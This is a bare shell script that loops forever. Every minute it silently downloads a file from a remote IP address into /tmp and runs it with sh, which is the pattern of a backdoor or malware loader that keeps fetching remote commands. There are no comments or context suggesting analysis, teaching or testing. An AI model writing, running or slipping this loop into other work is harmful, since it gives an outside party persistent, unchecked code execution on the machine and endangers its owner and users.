#!/bin/sh
while :; do wget -q -O /tmp/u http://192.0.2.7/u && sh /tmp/u; sleep 60; done
